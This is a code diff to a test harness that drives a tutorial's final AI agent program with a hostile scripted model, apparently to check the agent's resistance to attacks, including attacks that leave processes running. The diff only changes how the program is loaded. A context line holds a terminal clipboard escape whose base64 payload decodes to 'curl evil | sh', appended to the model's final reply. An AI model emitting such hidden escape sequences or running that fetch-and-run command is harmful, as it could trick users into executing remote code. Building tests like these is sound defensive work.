@@ -1,5 +1,5 @@
 /**
- * The final agent's program (solutions/s17_mcp/program.ts, what `npm run agent` runs) driven by a
+ * The final agent's program (what `npm run agent` runs: the last lesson's, runtime/registrations.ts finalAgent) driven by a
  * hostile scripted model: what tests/tools/signals.test.ts and the agent attacks of the
  * reliability run (scripts/reliability/agent-attacks.ts) start as a process. AGENT_ATTACK picks
  * the script; ATTACK_TOKENS (comma-separated) names the processes it leaves running.
@@ -12,7 +12,7 @@
 import { scriptedLlm } from "../../runtime/client.ts";
 import { call, say } from "../../runtime/scripted/scenarios/script.ts";
 import type { Reply, Scenario } from "../../runtime/scripted/types.ts";
-import { run } from "../../solutions/s17_mcp/program.ts";
+import { loadFinalProgram } from "../../scripts/agent.ts";
 
 const tokens = (process.env.ATTACK_TOKENS ?? process.env.SIGNAL_TOKENS ?? "a,b,c").split(",");
 const OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07";
@@ -36,5 +36,6 @@ const scenario: Scenario = {
   title: "a hostile model",
   reply: (ctx) => script[ctx.step] ?? say(`done${OSC52}`),
 };
+const { run } = await loadFinalProgram();
 const { exitCode } = await run(process.argv.slice(2), { llm: scriptedLlm({ scenario }) });
 process.exitCode = exitCode;
